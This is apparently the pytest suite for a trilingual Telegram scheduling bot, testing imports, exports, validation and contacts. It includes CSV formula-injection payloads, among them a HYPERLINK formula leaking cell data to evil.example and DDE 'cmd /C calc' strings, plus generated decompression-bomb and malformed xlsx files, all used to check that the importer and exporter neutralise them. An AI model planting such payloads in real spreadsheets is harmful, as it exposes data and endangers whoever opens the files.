"""Files in and out through the running bot: data in three languages, warnings and previews,
hostile spreadsheets, formula-safe exports, readable contacts."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sqlite3
import sys
import threading
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bot.services import spreadsheets
from bot.storage import Storage
from tests.conftest import COORDINATOR_ID, DATA, ROOT, BotHarness, Chat, demo_files, edit_sessions

SESSION_HEADER = (
    "cohort,date,start,end,title_en,title_ru,title_uz,department_en,department_ru,"
    "department_uz,location"
)


async def member(harness: BotHarness, user_id: int, language: str) -> Chat:
    chat = harness.user(user_id, language)
    await chat.join(await harness.invite_code())
    return chat


async def upload(
    harness: BotHarness, name: str, content: bytes, caption: str = "/import", language: str = "en"
) -> str:
    """Sends a file as the coordinator and returns the bot's answer."""
    emu = harness.emulator
    user = COORDINATOR_ID
    harness.user(user, language)
    start = len(emu.sent)
    await emu.send_document(user, name, content, caption=caption)
    return (await emu.wait_for_message(user, after=start, timeout=10)).plain_text or ""


def demo_sessions() -> str:
    return demo_files()[1][1].decode()


def with_column(text: str, column: str, values: dict[str, str]) -> str:
    """The sessions CSV with one more column, filled for the given session ids."""
    reader = csv.DictReader(io.StringIO(text, newline=""))
    out = io.StringIO()
    writer = csv.DictWriter(out, [*(reader.fieldnames or []), column], lineterminator="\n")
    writer.writeheader()
    for row in reader:
        writer.writerow({**row, column: values.get(row["id"], "")})
    return out.getvalue()


# -- data in three languages ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "place", "host", "notes", "group"),
    [
        ("en", "Anatomy hall, Room 112", "Assoc. Prof. A.M. Seitkaliyeva", "Early start!",
         "TPIER medical students"),
        ("ru", "Анатомический зал, ауд. 112", "Доцент А.М. Сейткалиева", "Начинаем рано!",
         "Студенты TPIER в КазНМУ"),
        ("uz", "Anatomiya zali, 112-xona", "Dotsent A.M. Seytkaliyeva", "Erta boshlanadi!",
         "TPIER talabalari KazNMUda"),
    ],
)  # fmt: skip
async def test_places_hosts_notes_and_group_names_in_the_readers_language(
    harness: BotHarness, language: str, place: str, host: str, notes: str, group: str
) -> None:
    chat = harness.user(4000, language)
    welcome = await chat.join(await harness.invite_code())
    assert group in welcome.text
    today = (await chat.send("/today")).text  # 16 September: the anatomy hall at 08:00
    assert place in today and host in today and notes in today
    others = {"en": "Anatomy hall", "ru": "Анатомический", "uz": "Anatomiya zali"}
    assert all(text not in today for lang, text in others.items() if lang != language)


async def test_a_missing_translation_falls_back_like_titles(storage: Storage) -> None:
    from bot.services.importer import Importer

    cohorts = (
        "code,name,name_uz,timezone,arrives,departs\nL-1,Group,Guruh,UTC,2026-09-01,2026-09-09\n"
    )
    sessions = (
        SESSION_HEADER + ",location_ru,host,notes_uz\n"
        "L-1,2026-09-02,09:00,10:00,Lecture,,,,,,Hall A,Зал А,Prof. X,Daftar olib keling\n"
    )
    importer = Importer(storage)
    plan = await importer.plan_files([("c.csv", cohorts.encode()), ("s.csv", sessions.encode())])
    assert plan.ok and not plan.warnings, [p.render() for p in plan.problems + plan.warnings]
    await importer.apply(plan)
    cohort = await storage.cohorts.by_code("L-1")
    [session] = await storage.sessions.for_cohort(cohort.id)
    assert (cohort.name.get("ru"), cohort.name.get("uz")) == ("Group", "Guruh")
    # Uzbek falls back to Russian, then English; Russian to English, then Uzbek.
    assert session.location.get("uz") == "Зал А" and session.location.get("en") == "Hall A"
    assert session.host.get("ru") == "Prof. X"
    assert session.notes.get("en") == "Daftar olib keling"


async def test_unknown_column_is_a_warning_not_an_error(harness: BotHarness) -> None:
    text = demo_sessions().replace("latitude,longitude", "latitude,longitude,colour", 1)
    answer = await upload(harness, "sessions.csv", text.encode())
    assert "unknown column “colour” is ignored" in answer
    assert "No changes" in answer  # the rest of the file is read as before


async def test_changing_the_base_text_alone_warns_that_translations_are_stale(
    demo_storage: Storage,
) -> None:
    from bot.services.importer import Importer

    text = edit_sessions(demo_sessions(), "TPI-2026-S06", location="Room 999 (new)")
    plan = await Importer(demo_storage).plan_files([("s.csv", text.encode())])
    assert plan.ok and plan.count("changed") == 1
    assert [w.render() for w in plan.warnings] == [
        "s.csv, line 7: location changed but its Russian or Uzbek text did not; "
        "students reading those may see the old text"
    ]
    both = edit_sessions(
        demo_sessions(), "TPI-2026-S06", location="Room 999", location_ru="Ауд. 999",
        location_uz="999-xona",
    )  # fmt: skip
    assert not (await Importer(demo_storage).plan_files([("s.csv", both.encode())])).warnings


async def test_export_writes_every_language_and_reimports_to_no_change(
    harness: BotHarness,
) -> None:
    coordinator = harness.user(COORDINATOR_ID, "en")
    document = await coordinator.send("/export TPI-2026")
    workbook = load_workbook(io.BytesIO(document.document))
    header = [c.value for c in workbook["sessions"][1]]
    assert {"location_ru", "location_uz", "host_ru", "host_uz", "notes_ru", "notes_uz"} <= set(
        header
    )
    row = [c.value for c in workbook["sessions"][2]]
    assert row[header.index("location_uz")].startswith("105-xona (dekanat)")
    assert [c.value for c in workbook["contacts"][1]][:4] == [
        "cohort",
        "name",
        "name_ru",
        "name_uz",
    ]
    assert workbook["cohorts"]["B2"].value.startswith("TPIER")
    plan = await harness.services.importer.plan_files([("TPI-2026.xlsx", document.document)])
    assert plan.ok and plan.empty and not plan.warnings


# -- /export writes text, never a live formula -----------------------------------------------

HOSTILE = {
    "title_en": '=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")',
    "location": "+cmd|' /C calc'!A0",
    "host": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3",
}


async def test_export_writes_formula_like_cells_as_text_and_reimports_unchanged(
    harness: BotHarness,
) -> None:
    text = edit_sessions(demo_sessions(), "TPI-2026-S05", **HOSTILE)
    preview = await upload(harness, "sessions.csv", text.encode())
    assert "Preview" in preview
    plan = await harness.services.importer.plan_files([("sessions.csv", text.encode())])
    await harness.services.admin.apply_import(COORDINATOR_ID, plan, "sessions.csv")

    coordinator = harness.user(COORDINATOR_ID, "en")
    document = (await coordinator.send("/export TPI-2026")).document
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula anywhere
    sheet = load_workbook(io.BytesIO(document))["sessions"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "TPI-2026-S05")
    for column, value in HOSTILE.items():
        cell = row[header.index(column)]
        assert (cell.value, cell.data_type) == (value, "s")
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    again = await harness.services.importer.plan_files([("TPI-2026.xlsx", document)])
    assert again.ok and again.empty


# -- warnings, cancellations and precise errors ------------------------------------------------


async def test_warnings_for_night_and_outside_the_stay_do_not_refuse(harness: BotHarness) -> None:
    text = edit_sessions(demo_sessions(), "TPI-2026-S05", start="23:00", end="23:45")
    text = edit_sessions(text, "TPI-2026-S42", date="2026-10-05")  # departs 3 October
    answer = await upload(harness, "sessions.csv", text.encode())
    assert "Preview of the import" in answer and "⚠️" in answer
    assert "2026-09-16 23:00–23:45 is at night" in answer
    assert "2026-10-05 is outside the group's stay (2026-09-15 – 2026-10-03)" in answer
    plan = await harness.services.importer.plan_files([("sessions.csv", text.encode())])
    assert plan.ok and len(plan.warnings) == 2 and plan.count("changed") == 2


async def test_preview_names_the_cancelled_sessions_in_the_readers_language(
    harness: BotHarness,
) -> None:
    text = edit_sessions(demo_sessions(), "TPI-2026-S05", drop=True)
    text = with_column(text, "cancelled", {"TPI-2026-S30": "yes"})
    answer = await upload(harness, "sessions.csv", text.encode(), language="uz")
    assert "❌ 16.09.2026 09:15 Maʼruza: umumiy osteologiya" in answer
    assert "❌ 28.09.2026 13:30 Maʼruza: nerv toʻqimasi" in answer


async def test_cli_dry_run_says_nothing_was_written_and_names_cancellations(tmp_path) -> None:  # type: ignore[no-untyped-def]
    database = tmp_path / "cli.sqlite3"
    env = {**os.environ, "BOT_DATABASE": str(database)}
    files = [str(DATA / n) for n in ("cohorts.csv", "sessions.csv", "contacts.csv")]

    async def run(*args: str) -> tuple[int, str]:
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "bot", "import", *args, cwd=ROOT, env=env,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
        )  # fmt: skip
        out, _ = await process.communicate()
        return process.returncode or 0, out.decode()

    code, out = await run("--dry-run", *files)
    assert code == 0 and "sessions: 42 added" in out
    assert out.rstrip().endswith("Dry run: nothing was written to the database.")
    assert sqlite3.connect(database).execute("SELECT COUNT(*) FROM sessions").fetchone() == (0,)
    assert (await run(*files))[0] == 0
    fewer = tmp_path / "sessions.csv"
    fewer.write_text(edit_sessions(demo_sessions(), "TPI-2026-S05", drop=True), encoding="utf-8")
    code, out = await run("--dry-run", str(fewer))
    assert "cancels TPI-2026 2026-09-16 09:15 Lecture: general osteology" in out
    assert "nothing was written" in out


@pytest.mark.parametrize(
    ("latitude", "longitude", "expected"),
    [
        ("abc", "76.9", "latitude must be a number between -90 and 90, not “abc”"),
        ("95", "76.9", "latitude must be a number between -90 and 90, not “95”"),
        ("43.2", "inf", "longitude must be a number between -180 and 180, not “inf”"),
        ("43.2", "", "give both latitude and longitude, or neither"),
    ],
)
async def test_a_bad_coordinate_gives_one_precise_error(
    demo_storage: Storage, latitude: str, longitude: str, expected: str
) -> None:
    from bot.services.importer import Importer

    text = edit_sessions(demo_sessions(), "TPI-2026-S05", latitude=latitude, longitude=longitude)
    plan = await Importer(demo_storage).plan_files([("s.csv", text.encode())])
    assert [p.render() for p in plan.problems] == [f"s.csv, line 6: {expected}"]


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("date", "0026-11-28", "date: 0026-11-28 is outside the years 2000–2099"),
        ("date", "9999-12-31", "date: 9999-12-31 is outside the years 2000–2099"),
        ("date", "0001-01-01", "date: 0001-01-01 is outside the years 2000–2099"),
        ("date", "2028-09-16", "date: 2028-09-16 is over a year outside the group's stay"),
        ("date", "2026-9-16", "date: “2026-9-16” is not a date (use YYYY-MM-DD)"),
        ("title_en", "🩺" * 101, "title_en is longer than 200 characters"),
        ("notes_ru", "ж" * 1001, "notes_ru is longer than 1000 characters"),
    ],
)
async def test_dates_and_lengths_from_a_file_are_bounded(
    harness: BotHarness, column: str, value: str, expected: str
) -> None:
    """No OverflowError, no stored year 0026, no session that Telegram cannot send."""
    text = edit_sessions(demo_sessions(), "TPI-2026-S05", **{column: value})
    answer = await upload(harness, "sessions.csv", text.encode())
    assert "nothing was changed" in answer and "line 6" in answer and expected in answer


@pytest.mark.parametrize("value", ["0026-11-28", "9999-12-31", "0001-01-01"])
async def test_cohort_dates_from_a_file_are_bounded(storage: Storage, value: str) -> None:
    from bot.services.importer import Importer

    text = f"code,name,timezone,arrives,departs\nY-1,Y,Pacific/Kiritimati,{value},{value}\n"
    plan = await Importer(storage).plan_files([("c.csv", text.encode())])
    rendered = [p.render() for p in plan.problems]
    assert rendered == [
        f"c.csv, line 2: arrives: {value} is outside the years 2000–2099",
        f"c.csv, line 2: departs: {value} is outside the years 2000–2099",
    ]


async def test_a_session_at_the_length_limits_fits_in_one_message(harness: BotHarness) -> None:
    longest = {
        "title_uz": "🩺" * 100, "department_uz": "ʻ" * 200, "location_uz": "📍" * 100,
        "host_uz": "👩‍⚕️" * 40, "notes_uz": "📝" * 500,
    }  # fmt: skip
    text = edit_sessions(demo_sessions(), "TPI-2026-S04", **longest)
    plan = await harness.services.importer.plan_files([("sessions.csv", text.encode())])
    assert plan.ok, [p.render() for p in plan.problems]
    await harness.services.admin.apply_import(COORDINATOR_ID, plan, "sessions.csv")
    chat = await member(harness, 4100, "uz")
    today = await chat.send("/today")  # the emulator refuses a message beyond 4,096 units
    assert "📝" * 500 in today.text


# -- the caption ---------------------------------------------------------------------------------


@pytest.mark.parametrize("caption", ["/IMPORT", "/Import@mobility_test_bot", "/import"])
async def test_import_caption_is_case_insensitive(harness: BotHarness, caption: str) -> None:
    answer = await upload(harness, "sessions.csv", demo_files()[1][1], caption=caption)
    assert "No changes" in answer


# -- hostile spreadsheets ------------------------------------------------------------------------


def workbook_bytes() -> bytes:
    """A real, small sessions workbook to tamper with."""
    wb = Workbook()
    ws = wb.active
    ws.title = "sessions"
    ws.append(SESSION_HEADER.split(","))
    ws.append(["TPI-2026", "2026-09-20", "10:00", "11:00", "Extra", "", "", "", "", "", "Hall"])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def tampered(replace: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """The workbook with some parts replaced (or left out), deflated: small on disk."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook_bytes())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for info in source.infolist():
            if info.filename not in drop:
                target.writestr(info.filename, replace.get(info.filename, source.read(info)))
    return out.getvalue()


def sheet_xml(rows: bytes, dimension: bytes = b"A1:K2") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="' + dimension + b'"/><sheetData>' + rows + b"</sheetData></worksheet>"
    )


HEADER_ROW = b'<row r="1"><c r="A1" t="inlineStr"><is><t>cohort</t></is></c></row>'
SHEET = "xl/worksheets/sheet1.xml"


def shared_strings_bomb() -> bytes:
    """sharedStrings.xml of 40 MB that deflates to about 40 KB."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook_bytes())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                target.writestr(info.filename, source.read(info))
        with target.open("xl/sharedStrings.xml", "w") as strings:
            strings.write(
                b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            chunk = b"<si><t>" + b"A" * 1000 + b"</t></si>"
            for _ in range(40_000):
                strings.write(chunk)
            strings.write(b"</sst>")
    return out.getvalue()


HOSTILE_FILES = {
    "a shared-strings bomb": (shared_strings_bomb, "MB; the limit is 16 MB"),
    "four million empty rows": (
        lambda: tampered({SHEET: sheet_xml(HEADER_ROW + b'<row r="4000000"/>')}),
        "reaches row 4000000; the limit is 10001 rows",
    ),
    "rows without numbers": (
        lambda: tampered({SHEET: sheet_xml(HEADER_ROW + b"<row/>" * 20_000)}),
        "reaches row 10002; the limit is 10001 rows",
    ),
    "a declared dimension to XFD": (
        lambda: tampered({SHEET: sheet_xml(HEADER_ROW, b"A1:XFD1048576")}),
        "the sheet “sessions” has a cell in column XFD; the limit is 100 columns",
    ),
    "a cell at column XFD": (
        lambda: tampered({SHEET: sheet_xml(HEADER_ROW + b'<row r="2"><c r="XFD2"/></row>')}),
        "has a cell in column XFD",
    ),
    "malformed XML": (
        lambda: tampered({SHEET: sheet_xml(HEADER_ROW)[:-40]}),
        "not a valid .xlsx workbook: xl/worksheets/sheet1.xml is broken at line 1",
    ),
    "a missing workbook part": (
        lambda: tampered({}, drop=("xl/workbook.xml",)),
        "not a valid .xlsx workbook: xl/workbook.xml is missing",
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE_FILES))
async def test_hostile_workbooks_are_refused_with_a_clear_error(
    storage: Storage, kind: str
) -> None:
    from bot.services.importer import Importer

    build, expected = HOSTILE_FILES[kind]
    content = build()
    assert len(content) < spreadsheets.MAX_FILE_BYTES
    plan = await Importer(storage).plan_files([("plan.xlsx", content)])
    assert not plan.ok
    assert expected in plan.problems[0].render()


async def test_a_workbook_is_read_off_the_event_loop(
    harness: BotHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While a workbook is being read, another member's command is answered. The reading is
    held until that answer has arrived: on the event loop, it could never be released."""
    reading, release = threading.Event(), threading.Event()
    released_in_time: list[bool] = []
    real = spreadsheets._read_xlsx

    def held(filename: str, content: bytes):  # type: ignore[no-untyped-def]
        reading.set()
        released_in_time.append(release.wait(timeout=10))
        return real(filename, content)

    monkeypatch.setattr(spreadsheets, "_read_xlsx", held)
    student = await member(harness, 4200, "ru")
    harness.user(COORDINATOR_ID, "en")
    emu = harness.emulator
    start = len(emu.sent)
    content = HOSTILE_FILES["a cell at column XFD"][0]()
    await emu.send_document(COORDINATOR_ID, "plan.xlsx", content, caption="/import")
    assert await asyncio.to_thread(reading.wait, 10)
    answer = await student.send("/today")  # answered while the workbook is still being read
    assert "Анатомический зал" in answer.text
    release.set()
    refusal = await emu.wait_for_message(COORDINATOR_ID, after=start, timeout=10)
    assert released_in_time == [True]
    assert "has a cell in column XFD" in refusal.text


# -- contacts ------------------------------------------------------------------------------------

SHARED_DESK = (
    "*,K.S. Omarov,К.С. Омаров,K.S. Omarov,Campus security,Охрана кампуса,"
    "Kampus qoʻriqlash xizmati,+77012345678,security@example.edu,@example_security\n"
)


@pytest.mark.parametrize(
    ("language", "supervisor", "coordinator", "dean", "desk"),
    [
        ("en", "Group supervisor", "Academic mobility coordinator", "Dean, School",
         "<b>Campus security</b>: K.S. Omarov"),
        ("ru", "Руководитель группы", "Координатор академической мобильности",
         "Декан школы", "<b>Охрана кампуса</b>: К.С. Омаров"),
        ("uz", "Guruh rahbari", "Akademik mobillik koordinatori", "maktabi-1 dekani",
         "<b>Kampus qoʻriqlash xizmati</b>: K.S. Omarov"),
    ],
)  # fmt: skip
async def test_contacts_supervisor_first_and_shared_contacts_in_full(
    harness: BotHarness, language: str, supervisor: str, coordinator: str, dean: str, desk: str
) -> None:
    contacts = (DATA / "contacts.csv").read_text(encoding="utf-8") + SHARED_DESK
    plan = await harness.services.importer.plan_files([("contacts.csv", contacts.encode())])
    assert plan.ok, [p.render() for p in plan.problems]
    await harness.services.admin.apply_import(COORDINATOR_ID, plan, "contacts.csv")
    chat = await member(harness, 4300, language)
    text = (await chat.send("/contacts")).text
    assert text.index(supervisor) < text.index(coordinator) < text.index(dean)
    # A shared contact shows its name, phone (grouped, still a phone number), e-mail, handle.
    assert f"{desk} — +7 701 234 56 78 · security@example.edu · @example_security" in text
    # A service whose name its role already says reads as "role: number".
    ambulance = {"en": "Ambulance", "ru": "Скорая медицинская помощь", "uz": "Tez tibbiy yordam"}
    assert f"<b>{ambulance[language]}</b>: 103" in text
    assert "+7 700 000 00 10" in text  # the supervisor's number as written, grouped
